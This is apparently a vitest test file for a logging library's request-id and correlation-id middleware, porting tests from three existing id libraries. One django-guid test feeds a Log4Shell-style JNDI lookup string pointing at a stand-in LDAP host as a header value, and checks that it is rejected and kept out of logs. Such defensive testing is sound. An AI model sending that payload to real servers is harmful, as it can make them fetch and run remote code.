/**
 * What the tests of three libraries of ids ask of theirs, asked of ours. Each row names the source test; where ours is meant
 * to differ, the row says so. Not taken over: tests of Celery, Sentry and DRF, and of settings that there is no counterpart of
 * (`INTEGRATIONS`, `UUID_LENGTH`: a `generate` or `transform` does that).
 */
import { EventEmitter, once } from 'node:events';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Duplex } from 'node:stream';
import { randomUUID } from 'node:crypto';
import {
  bindContext,
  bindEmitter,
  configureLogging,
  correlationId,
  getLogger,
  outgoingHeaders,
  runWithContext,
  unbindContext,
} from '@logshift/runtime';
import { fastifyLogging } from '@logshift/runtime/fastify';
import {
  isUuid4,
  withHttpLogging,
  withRequestContext,
  type HttpLoggingOptions,
} from '@logshift/runtime/http';
import fastify from 'fastify';
import { afterAll, afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { captureRecords, type CapturedRecords } from '../../helpers/capture-records.js';

const log = getLogger('shop');
const UUID = /^[\da-f]{8}-[\da-f]{4}-4[\da-f]{3}-[89ab][\da-f]{3}-[\da-f]{12}$/;

let captured: CapturedRecords;
let server: Server | undefined;
beforeEach(() => {
  captured = captureRecords();
});
afterEach(() => {
  server?.closeAllConnections();
  server?.close();
  server = undefined;
});
afterAll(() => configureLogging());

type Handle = (request: IncomingMessage, response: ServerResponse) => unknown;

interface Answer {
  readonly headers: Headers;
  readonly text: string;
}

const answerId: Handle = (_request, response) => {
  log.info('handled');
  response.end(correlationId());
};

/** Asks a server with these options once for each set of headers. */
async function askEach(
  options: HttpLoggingOptions,
  requests: readonly Record<string, string>[],
  handle: Handle = answerId,
  path = '/test',
): Promise<readonly Answer[]> {
  server = createServer(withHttpLogging(handle, options)).listen(0);
  await once(server, 'listening');
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}${path}`;
  return Promise.all(
    requests.map(async (headers) => {
      const response = await fetch(url, { headers });
      return { headers: response.headers, text: await response.text() };
    }),
  );
}

async function ask(
  options: HttpLoggingOptions,
  headers: Record<string, string> = {},
  handle?: Handle,
  path?: string,
): Promise<Answer> {
  const [answer] = await askEach(options, [headers], handle, path);
  return answer!;
}

const strict: HttpLoggingOptions = { requestId: { validate: isUuid4 } };

describe('asgi-correlation-id', () => {
  it('test_returned_response_headers: what is sent comes back, and another where none is', async () => {
    const [one, two] = [randomUUID(), randomUUID()];
    const answers = await askEach(strict, [{ 'x-request-id': one }, { 'x-request-id': two }, {}]);
    const ids = answers.map(({ headers }) => headers.get('x-request-id'));
    expect(ids.slice(0, 2)).toEqual([one, two]);
    expect(ids[2]).toMatch(UUID);
    expect(ids.slice(0, 2)).not.toContain(ids[2]);
  });

  it.each([undefined, 'invalid'])(
    'test_update_request_header: handlers find the id in place of %s',
    async (given) => {
      const seen: Handle = (request, response) => response.end(request.headers['x-request-id']);
      const headers = given === undefined ? {} : { 'x-request-id': given };
      const answer = await ask(strict, headers, seen);
      expect(answer.text).toMatch(UUID);
      expect(answer.text).toBe(answer.headers.get('x-request-id'));
      server?.close();
      const kept = await ask({ requestId: { validate: isUuid4, updateRequestHeader: false } }, headers, seen);
      expect(kept.text).toBe(given ?? '');
    },
  );

  it.each(['test', 'bad-uuid', '1x'.repeat(16), `${randomUUID().replaceAll('-', '').slice(0, -1)}x`])(
    'test_non_uuid_header: %s is replaced, which is said without saying it',
    async (given) => {
      const { headers } = await ask(strict, { 'x-request-id': given });
      const id = headers.get('x-request-id');
      expect(id).toMatch(UUID);
      expect(captured.records[0]).toMatchObject({
        ...{ level: 'debug', event: 'request_id_rejected', header: 'x-request-id', request_id: id },
      });
      expect(captured.lines.join('')).not.toContain(`"${given}"`);
    },
  );

  it('test_websocket_request: an upgrade has an id and a context, and no line of ours', async () => {
    server = createServer().listen(0);
    server.on(
      'upgrade',
      withRequestContext((request: IncomingMessage, socket: Duplex) => {
        socket.write('HTTP/1.1 101 Switching Protocols\r\nconnection: upgrade\r\nupgrade: websocket\r\n\r\n');
        // What comes by the socket comes in the context of the server; the first listener is not the one that matters.
        socket.on('error', () => undefined);
        socket.on('data', (data) => {
          socket.end(`${String(data)} ${correlationId()} ${String(request.headers['x-request-id'])}`);
        });
      }),
    );
    await once(server, 'listening');
    const { get } = await import('node:http');
    const headers = { connection: 'upgrade', upgrade: 'websocket', 'x-request-id': 'ws-1' };
    const request = get({ port: (server.address() as AddressInfo).port, headers });
    const [, socket] = (await once(request, 'upgrade')) as [IncomingMessage, Duplex];
    socket.write('hello');
    expect(String((await once(socket, 'data'))[0])).toBe('hello ws-1 ws-1');
    expect(captured.records).toEqual([]);
  });

  it('test_multiple_headers_same_name: other headers stay as they are, doubled ones too', async () => {
    const { headers } = await ask({}, {}, (_request, response) => {
      response.setHeader('set-cookie', ['access=1', 'refresh=2']);
      response.writeHead(204, { 'x-other': '1' }).end();
    });
    expect(headers.getSetCookie()).toEqual(['access=1', 'refresh=2']);
    expect(headers.get('x-other')).toBe('1');
    expect(headers.get('x-request-id')).toMatch(UUID);
  });

  it('test_no_validator: without a check anything printable is taken over, and nothing else', async () => {
    const options = { requestId: { validate: false } } as const;
    const [plain, odd, long] = await askEach(options, [
      { 'x-request-id': 'bad-uuid' },
      { 'x-request-id': 'a "quoted", listed id' },
      { 'x-request-id': 'a'.repeat(257) },
    ]);
    expect(plain?.headers.get('x-request-id')).toBe('bad-uuid');
    expect(odd?.headers.get('x-request-id')).toBe('a "quoted", listed id');
    expect(long?.headers.get('x-request-id')).toMatch(UUID);
  });

  it('test_custom_transformer: changes ids that come and ids that are made; what it breaks is left', async () => {
    const twice = { requestId: { transform: (id: string) => id + id } };
    const [given] = await askEach(twice, [{ 'x-request-id': 'abc' }]);
    expect(given?.headers.get('x-request-id')).toBe('abcabc');
    server?.close();
    const { headers } = await ask({ requestId: { transform: () => 'a\nb' } }, { 'x-request-id': 'abc' });
    expect(headers.get('x-request-id')).toBe('abc');
  });

  it('test_custom_generator: makes the id of a request with a bad one', async () => {
    const generate = () => 'made-here';
    const { headers } = await ask({ requestId: { validate: isUuid4, generate } }, { 'x-request-id': 'bad' });
    expect(headers.get('x-request-id')).toBe('made-here');
  });

  it.each([
    ['3758c31e-1177-4540-ba33-0109c405579a', true],
    ['9e6454c4-21d5-4e4a-a66a-b28f15576414', true],
    ['9e6454c421d54e4aa66ab28f15576414', true],
    ['foo', false],
    ['9e6454c4-21d5-4e4a-a66a-b28f15576414-1', false],
    ['00000000000000000000000000000000', false],
    ['9e6454c4-21d54e4a-a66a-b28f15576414', false],
  ])('test_is_valid_uuid4: %s is %s', (text, isValid) => expect(isUuid4(text)).toBe(isValid));

  it('test_filter_adds_correlation_id, test_filter_uses_default_value: in records inside, not outside', async () => {
    await ask({}, { 'x-request-id': 'c-1' });
    log.info('outside');
    expect(captured.records[0]).toMatchObject({ event: 'handled', request_id: 'c-1' });
    expect(captured.records.at(-1)).not.toHaveProperty('request_id');
  });
});

const CORRELATED: HttpLoggingOptions = { correlationId: { header: 'Correlation-ID' } };

describe('django-guid', () => {
  it('test_request_with_no_correlation_id, test_one_request: one is made, logged and returned', async () => {
    const { headers, text } = await ask(CORRELATED);
    expect(text).toMatch(UUID);
    expect(headers.get('correlation-id')).toBe(text);
    expect(captured.records[0]).toMatchObject({ event: 'handled', correlation_id: text, request_id: text });
  });

  it('test_request_with_correlation_id: is the flow, and the request has an id of its own', async () => {
    const { headers, text } = await ask(CORRELATED, { 'Correlation-ID': 'flow-1' });
    expect([text, headers.get('correlation-id')]).toEqual(['flow-1', 'flow-1']);
    expect(captured.records[0]).toMatchObject({ correlation_id: 'flow-1' });
    expect(captured.records[0]?.['request_id']).toMatch(UUID);
  });

  it.each(['!"#¤&${jndi:ldap://ondskap.no/a}', 'bad guid'])(
    'test_request_with_non_alnum_correlation_id, test_request_with_invalid_correlation_id: %s is replaced',
    async (given) => {
      const { text } = await ask(CORRELATED, { 'Correlation-ID': given });
      expect(text).toMatch(UUID);
      expect(captured.lines.join('')).not.toContain('jndi');
    },
  );

  it('test_request_with_invalid_correlation_id_without_validation: is taken over', async () => {
    const { text } = await ask({ correlationId: { header: 'Correlation-ID', validate: false } }, { 'Correlation-ID': 'bad guid' }); // prettier-ignore
    expect(text).toBe('bad guid');
  });

  it('test_no_return_header_and_drf_url: is not returned where that is not wanted', async () => {
    const { headers, text } = await ask({ correlationId: { header: 'Correlation-ID', returnHeader: false } });
    expect(text).toMatch(UUID);
    expect(headers.has('correlation-id')).toBe(false);
  });

  it.each([
    ['test_expose_header_return_header_true', true, true, 'Correlation-ID'],
    ['test_no_expose_header_return_header_true', false, true, null],
    ['test_no_expose_header_return_header_false', false, false, null],
    ['test_expose_header_return_header_false', true, false, null],
  ])('%s', async (_, exposeHeader, returnHeader, exposed) => {
    const { headers } = await ask({
      correlationId: { header: 'Correlation-ID', exposeHeader, returnHeader },
    });
    expect(headers.get('access-control-expose-headers')).toBe(exposed);
  });

  it.each<[string, Handle]>([
    ['setHeader', (_request, response) => response.setHeader('Access-Control-Expose-Headers', 'ETag').end()],
    [
      'writeHead',
      (_request, response) => response.writeHead(200, { 'access-control-expose-headers': 'ETag' }).end(),
    ],
    [
      'a list',
      (_request, response) => response.writeHead(200, ['Access-Control-Expose-Headers', 'ETag']).end(),
    ],
  ])('(unlike it) adds to what %s exposes, each name once', async (_, handle) => {
    const exposed = { exposeHeader: true } as const;
    const { headers } = await ask({ requestId: exposed, correlationId: exposed }, {}, handle);
    expect(headers.get('access-control-expose-headers')).toBe('ETag, x-request-id, x-correlation-id');
  });

  it('test_cleanup_signal, test_two_requests_concurrently: no request inherits the id of another', async () => {
    const answers = await askEach(
      CORRELATED,
      Array.from({ length: 20 }, () => ({})),
    );
    expect(new Set(answers.map(({ text }) => text)).size).toBe(20);
  });

  it('test_url_ignored, test_ignored_url: a path that the id ignores has none', async () => {
    const options = { requestId: { ignore: ['/no-guid'] }, correlationId: false } as const;
    const { headers } = await ask(options, {}, answerId, '/no-guid?x=1');
    expect(headers.has('x-request-id')).toBe(false);
    expect(captured.records[0]).not.toHaveProperty('request_id');
  });

  it('test_api: is set, read and deleted anywhere', async () => {
    await ask(CORRELATED, { 'Correlation-ID': 'flow-1' }, (_request, response) => {
      const seen = [correlationId()];
      bindContext({ correlation_id: 'another' });
      seen.push(correlationId());
      unbindContext('correlation_id', 'request_id');
      seen.push(correlationId());
      response.end();
      expect(seen).toEqual(['flow-1', 'another', undefined]);
    });
  });

  it.each([
    ['test_invalid_guid', { correlationId: { validate: 'string' } }, 'correlationId.validate'],
    ['test_invalid_header_name', { correlationId: { header: true } }, 'correlationId.header'],
    ['test_invalid_return_header_setting', { requestId: { returnHeader: 'yes' } }, 'requestId.returnHeader'],
    ['test_invalid_expose_header_setting', { requestId: { exposeHeader: 1 } }, 'requestId.exposeHeader'],
    ['test_not_array_ignore_urls', { requestId: { ignore: '/a' } }, 'requestId.ignore'],
    ['test_not_string_in_igore_urls', { requestId: { ignore: [1] } }, 'requestId.ignore'],
    [
      'an option that there is not',
      { requestId: { validator: isUuid4 } },
      'Unknown option "requestId.validator"',
    ],
  ])('%s is refused with its name', (_, options, message) => {
    expect(() => withHttpLogging(() => undefined, options as never)).toThrow(message);
  });

  it('travels on in the header that it came in', async () => {
    const sent: unknown[] = [];
    await ask(CORRELATED, { 'Correlation-ID': 'flow-1', 'x-request-id': 'r-1' }, (_request, response) => {
      sent.push(outgoingHeaders());
      response.end();
    });
    expect(sent).toEqual([{ 'x-request-id': 'r-1', 'correlation-id': 'flow-1' }]);
  });
});

describe('cls-rtracer', () => {
  it('does not return id outside of request', () => expect(correlationId()).toBeUndefined());

  it('generates id for request - available in handler, with callback, promise and async/await', async () => {
    const { text, headers } = await ask({}, {}, (_request, response) => {
      setTimeout(() => void Promise.resolve().then(() => response.end(correlationId())), 1);
    });
    expect(text).toBe(headers.get('x-request-id'));
  });

  it('generates id for request - available in emitters', async () => {
    const seen: unknown[] = [];
    const { headers } = await ask({}, {}, (request, response) => {
      request.on('end', () => seen.push(correlationId()));
      response.on('finish', () => seen.push(correlationId()));
      request.resume();
      response.end();
    });
    expect(seen).toEqual([headers.get('x-request-id'), headers.get('x-request-id')]);
  });

  it('uses request id factory when provided; passes original request to id factory', async () => {
    const generate = vi.fn(({ url }: IncomingMessage) => `made-for-${url?.slice(1)}`);
    const { text } = await ask({ requestId: { generate } });
    expect(text).toBe('made-for-test');
    expect(generate.mock.calls[0]?.[0].headers.host).toContain('127.0.0.1');
  });

  it('(unlike it) uses the default header by default; uses different header; ignores header if empty', async () => {
    expect((await ask({}, { 'X-Request-Id': 'given' })).text).toBe('given');
    server?.close();
    expect(
      (await ask({ requestId: { header: 'X-Own' } }, { 'x-own': 'own', 'x-request-id': 'other' })).text,
    ).toBe('own');
    server?.close();
    expect((await ask({}, { 'x-request-id': '' })).text).toMatch(UUID);
  });

  it('ignores header if disabled', async () => {
    expect((await ask({ requestId: { validate: () => false } }, { 'x-request-id': 'given' })).text).toMatch(
      UUID,
    );
  });

  it('generates different ids for concurrent requests', async () => {
    const answers = await askEach(
      {},
      Array.from({ length: 10 }, () => ({})),
    );
    expect(new Set(answers.map(({ text }) => text)).size).toBe(10);
  });

  it('does not echo the header when that is switched off; echoes it, custom too, also when an error is thrown', async () => {
    expect((await ask({ requestId: { returnHeader: false } })).headers.has('x-request-id')).toBe(false);
    server?.close();
    const { headers } = await ask(
      { requestId: { header: 'X-Own' } },
      { 'x-own': 'own' },
      (_request, response) => {
        for (const name of response.getHeaderNames()) response.removeHeader(name); // as Koa does on errors
        response.writeHead(500).end();
      },
    );
    expect(headers.get('x-own')).toBe('own');
  });

  it('uses fastify id in case of override; uses header instead of fastify id', async () => {
    const app = fastify({ genReqId: () => 'of-fastify' });
    await app.register(fastifyLogging, { useFastifyId: true });
    app.get('/', async (request) => `${request.id} ${correlationId()}`);
    expect((await app.inject('/')).body).toBe('of-fastify of-fastify');
    const given = await app.inject({ url: '/', headers: { 'x-request-id': 'given' } });
    expect([given.body, given.headers['x-request-id']]).toEqual(['given given', 'given']);
    await app.close();
  });

  it('runWithId: runs function in scope of an id, supports awaiting the function', async () => {
    const ids = await runWithContext({ request_id: 'job-1' }, async () => {
      await Promise.resolve();
      return correlationId();
    });
    expect(ids).toBe('job-1');
  });
});

describe('cls-rtracer, wrapEmitter', () => {
  const inScope = <T>(id: string, run: () => T): T => runWithContext({ request_id: id }, run);

  it('binds event listeners; does not bind previously registered ones', () => {
    const emitter = new EventEmitter();
    const seen: unknown[] = [];
    emitter.on('x', () => seen.push(['before', correlationId()]));
    bindEmitter(emitter);
    for (const add of ['on', 'addListener', 'prependListener', 'once', 'prependOnceListener'] as const)
      inScope(add, () => emitter[add]('x', () => seen.push([add, correlationId()])));
    inScope('emitting', () => emitter.emit('x'));
    expect(seen).toEqual([
      ...['prependOnceListener', 'prependListener'].map((add) => [add, add]),
      ['before', 'emitting'],
      ...['on', 'addListener', 'once'].map((add) => [add, add]),
    ]);
    seen.length = 0;
    emitter.emit('x');
    expect(seen).toHaveLength(4); // those that were added to hear once are gone
  });

  it('does not prevent event listeners from being removed, also those added to hear once', () => {
    const emitter = bindEmitter(new EventEmitter());
    const listener = vi.fn();
    for (const add of ['on', 'once', 'prependListener', 'prependOnceListener'] as const) {
      inScope('a', () => emitter[add]('x', listener));
      expect(emitter.listeners('x')).toEqual([listener]);
      expect(emitter.listenerCount('x', listener)).toBe(1);
      emitter.off('x', listener);
      expect(emitter.listenerCount('x')).toBe(0);
    }
    emitter.emit('x');
    expect(listener).not.toHaveBeenCalled();
  });

  it('wraps only once on multiple invocations', () => {
    const emitter = bindEmitter(new EventEmitter());
    const { on } = emitter;
    expect(bindEmitter(emitter).on).toBe(on);
  });

  it('allows registering same listener function to different events, and to the same event', () => {
    const emitter = bindEmitter(new EventEmitter());
    const seen: unknown[] = [];
    const listener = () => seen.push(correlationId());
    inScope('a', () => emitter.on('x', listener).on('y', listener));
    inScope('b', () => emitter.on('x', listener));
    emitter.emit('x');
    emitter.emit('y');
    emitter.off('x', listener);
    emitter.emit('x');
    expect(seen).toEqual(['a', 'b', 'a', 'a']);
  });

  it('allows registering self-deregistering listener function', () => {
    const emitter = bindEmitter(new EventEmitter());
    let count = 0;
    const listener = () => {
      count += 1;
      emitter.off('x', listener);
    };
    inScope('a', () => emitter.on('x', listener));
    emitter.emit('x');
    emitter.emit('x');
    expect(count).toBe(1);
  });
});
